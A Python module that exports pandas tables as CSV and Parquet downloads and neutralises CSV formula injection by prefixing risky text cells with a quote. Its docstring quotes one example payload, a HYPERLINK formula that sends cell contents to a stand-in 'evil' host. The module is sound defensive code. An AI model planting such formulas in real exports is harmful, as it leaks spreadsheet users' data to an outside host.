"""Downloads of what a page shows: CSV for spreadsheets, Parquet for analysts.

Customer texts are attacker-controlled: a tweet reading `=HYPERLINK("http://evil/?"&A1, "Click")`
becomes a live formula when a care manager opens the CSV in Excel, LibreOffice or Google Sheets
(CSV / formula injection). `to_csv_bytes` therefore prefixes every text cell (and column name)
that starts with a formula trigger with a single quote `'`, as OWASP recommends: the spreadsheet
shows the text, evaluates nothing. Numbers are written as numbers (a negative number is not a
formula). Parquet is a typed format no spreadsheet evaluates, so `to_parquet_bytes` keeps the
values exact unless asked to neutralise them too.

    to_csv_bytes(frame) -> bytes        UTF-8 with BOM (Excel then reads emoji and accents), no index
    to_parquet_bytes(frame) -> bytes
"""
from __future__ import annotations

import io

import pandas as pd

# Cells starting with these are formulas (or become one) in common spreadsheets: OWASP's list
# (= + - @ tab CR) plus LF and the full-width forms some spreadsheets also accept.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CSV_MIME = "text/csv"
PARQUET_MIME = "application/vnd.apache.parquet"


def neutralise(value):
    """The cell as text a spreadsheet will not evaluate; non-text values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell and column name neutralised; numbers, dates, NULLs as they are."""
    out = frame.copy()
    out.columns = [neutralise(str(c)) for c in frame.columns]
    for position, column in enumerate(frame.columns):
        series = frame[column]
        if _may_hold_text(series):
            out.isetitem(position, series.astype(object).map(neutralise))
    return out


def _may_hold_text(series: pd.Series) -> bool:
    return (pd.api.types.is_object_dtype(series.dtype)
            or pd.api.types.is_string_dtype(series.dtype)
            or isinstance(series.dtype, pd.CategoricalDtype))


def to_csv_bytes(frame: pd.DataFrame) -> bytes:
    """CSV for spreadsheets: formulas neutralised, UTF-8 with BOM, CRLF (RFC 4180: a CR or LF
    inside a cell is then quoted), no index column."""
    return neutralised(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def to_parquet_bytes(frame: pd.DataFrame, neutralise_formulas: bool = False) -> bytes:
    """Parquet (exact values by default: no spreadsheet evaluates Parquet), no index."""
    buffer = io.BytesIO()
    (neutralised(frame) if neutralise_formulas else frame).to_parquet(buffer, index=False)
    return buffer.getvalue()
